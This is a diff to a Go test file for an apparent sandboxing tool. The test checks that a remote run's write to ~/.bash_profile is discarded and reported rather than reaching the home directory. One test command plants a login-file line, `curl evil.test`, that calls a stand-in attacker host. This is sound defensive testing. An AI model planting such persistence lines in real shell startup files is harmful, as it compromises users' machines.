@@ -13,7 +13,6 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
-	"slices"
 	"strings"
 	"sync"
 	"syscall"
@@ -431,18 +430,20 @@ func TestRemoteRunReachesUpstreamThroughItsDoor(t *testing.T) {
 		t.Fatalf("runs events %s has no allow of upstream.test:\n%s", run.ID, evOut)
 	}
 
-	// A login file the remote run made in the remote home is named at home
-	// when the run ends.
+	// A login file the remote run made in the remote home stays in its
+	// private layer, and the person at home is told.
 	_, stderr, code = r.C.postern(t, "run", "--machine", "far", "--policy", pol, "--resolver", r.resolver(), "--",
 		"sh", "-c", `echo 'curl evil.test' > "$HOME/.bash_profile"`)
-	planted := filepath.Join(r.Remote.Home, ".bash_profile") + " appeared during the run"
-	if code != 0 || !strings.Contains(stderr, planted+".") {
-		t.Fatalf("remote run planting ~/.bash_profile: exit %d, stderr %q; want %q", code, stderr, planted)
+	discarded := "1 file(s) it wrote in the home outside its writable places (~/.bash_profile) were discarded"
+	if code != 0 || !strings.Contains(stderr, discarded) {
+		t.Fatalf("remote run planting ~/.bash_profile: exit %d, stderr %q; want %q", code, stderr, discarded)
 	}
-	if g := lastRun(t, r.C).Guarded; !slices.Equal(g, []string{planted}) {
-		t.Fatalf("the remote run's record names %q, want %q", g, planted)
+	if _, err := os.Stat(filepath.Join(r.Remote.Home, ".bash_profile")); err == nil {
+		t.Fatalf("~/.bash_profile planted by a remote run reached the remote home")
 	}
-	os.Remove(filepath.Join(r.Remote.Home, ".bash_profile"))
+	if g := lastRun(t, r.C).Writes; len(g) != 1 || !strings.HasPrefix(g[0], discarded) {
+		t.Fatalf("the remote run's record says %q, want %q", g, discarded)
+	}
 
 	// A denied name on the remote is denied, and the exit status comes home.
 	stdout, stderr, code = r.C.postern(t, "run", "--machine", "far", "--policy", pol, "--resolver", r.resolver(), "--",
